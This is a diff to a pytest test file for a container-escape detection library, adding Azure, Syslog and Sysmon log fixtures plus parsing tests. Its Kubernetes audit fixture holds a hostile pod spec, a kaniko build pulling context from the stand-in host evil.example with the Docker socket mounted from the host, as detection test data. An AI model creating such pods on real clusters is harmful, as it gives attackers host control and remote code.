@@ -13,7 +13,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from t1612core import AUTO, HARDENED, MDE, Detector, EventError, Schema, events_from
+from t1612core import (
+    AUTO,
+    HARDENED,
+    MDE,
+    Detector,
+    EventError,
+    Schema,
+    UnrecognisedError,
+    events_from,
+)
 from t1612core.knowledge.exports import SHARED
 from t1612core.telemetry.spread import spread
 
@@ -160,6 +169,58 @@ WRAPPED: dict[str, tuple[Any, list[Any]]] = {
     ),
 }
 DETECTORS = {each.name: Detector(schema=each) for each in (AUTO, MDE)}
+AUDIT = {
+    "kind": "Event",
+    "apiVersion": "audit.k8s.io/v1",
+    "stage": "ResponseComplete",
+    "requestURI": "/api/v1/namespaces/x/pods",
+    "verb": "create",
+    "objectRef": {"resource": "pods", "namespace": "x"},
+    "requestObject": {
+        "spec": {
+            "nodeName": "web-07",
+            "containers": [
+                {
+                    "image": "gcr.io/kaniko-project/executor:latest",
+                    "args": ["--context=git://evil.example/x"],
+                }
+            ],
+            "volumes": [{"hostPath": {"path": "/var/run/docker.sock"}}],
+        }
+    },
+}
+AZURE: dict[str, dict[str, Any]] = {
+    "Azure's diagnostics": {
+        **{"TimeGenerated": "x", "Category": "kube-audit", "Type": "AzureDiagnostics"},
+        "log_s": json.dumps(AUDIT),
+    },
+    "Azure's event hub": {
+        **{"time": "x", "category": "kube-audit-admin", "operationName": "x"},
+        "properties": {"log": json.dumps(AUDIT) + "\n", "stream": "stdout", "pod": "x"},
+    },
+}
+SYSMON = (
+    "<Event><System><Provider Name='Linux-Sysmon'/><EventID>1</EventID><Computer>web-07</Computer>"
+    "</System><EventData><Data Name='Image'>/usr/bin/docker</Data>"
+    f"<Data Name='CommandLine'>{LINE}</Data></EventData></Event>"
+)
+SYSLOG = {"TimeGenerated": "x", "Type": "Syslog", "Computer": "web-07"}
+QUOTED: dict[str, tuple[Any, list[Any]]] = {
+    "Sysmon in Sentinel's Syslog": ({**SYSLOG, "SyslogMessage": SYSMON}, [{"_raw": SYSMON}]),
+    "dockerd in Sentinel's Syslog": (
+        {**SYSLOG, "SyslogMessage": DEBUG},
+        [{"_raw": DEBUG, "host": "web-07"}],
+    ),
+    "Falco in Sentinel's ContainerLogV2": (
+        {"Type": "ContainerLogV2", "LogMessage": EVENT_JSON},
+        [ALERT],
+    ),
+    "Falco as an object": ({"Type": "ContainerLogV2", "LogMessage": ALERT}, [ALERT]),
+    "Falco in ContainerLog": ({"Type": "ContainerLog", "LogEntry": EVENT_JSON}, [ALERT]),
+    "XML in a message": ({"message": SYSMON, "@timestamp": "x"}, [{"_raw": SYSMON}]),
+    **{name: (event, [event]) for name, event in AZURE.items()},
+}
+WRAPPED |= QUOTED
 SCORING = [name for name in WRAPPED if name != "OpenTelemetry, a list"]
 
 
@@ -203,6 +264,14 @@ def test_its_line_is_never_passed_over(name: str, schema: Schema, is_plain: bool
         {**ELASTIC, "event": {"category": ["web"], "original": EVENT_JSON}},
         {"_time": "x", "sourcetype": "y", "process": "ls", "_raw": EVENT_JSON},
         {**OSQUERY, "snapshot": [COLUMNS]},
+        # What a row that is scored has besides, and what a table quotes that nobody knows.
+        {**ROW, "LogMessage": EVENT_JSON},
+        {**SYSLOG, "SyslogMessage": "session opened"},
+        {**SYSLOG, "SyslogMessage": '{"a": 1}'},
+        {**SYSLOG, "SyslogMessage": f"[{EVENT_JSON}, {EVENT_JSON}]"},
+        {**SYSLOG, "SyslogMessage": "x" * (5 << 20)},
+        {"Type": "ContainerLogV2", "LogMessage": {"a": 1}},
+        {"message": "<Event>x", "@timestamp": "x"},
         # Other things of these names.
         {"event": {"a": 1}, "unknown": 1},
         {"event": 7},
@@ -223,10 +292,17 @@ def test_its_line_is_never_passed_over(name: str, schema: Schema, is_plain: bool
         {"a": [ROW, "x"]},
         {"a": [], "b": []},
     ],
-    ids=str,
+    ids=lambda value: str(value)[:99],
 )
 def test_it_is_left_whole(value: dict[str, Any]) -> None:
     assert [value] == list(events_from(value))
+
+
+@pytest.mark.parametrize("log", ["x", "[]", '{"apiVersion": "v1"}', None])
+def test_what_is_no_audit_of_kubernetes_is_not_called_clean(log: str | None) -> None:
+    detector = DETECTORS["auto"]
+    with pytest.raises(UnrecognisedError):
+        detector.kind_of({**AZURE["Azure's event hub"], "properties": {"log": log, "a": 1}})
 
 
 def test_odd_values_of_open_telemetry_give_what_can_be_read() -> None:
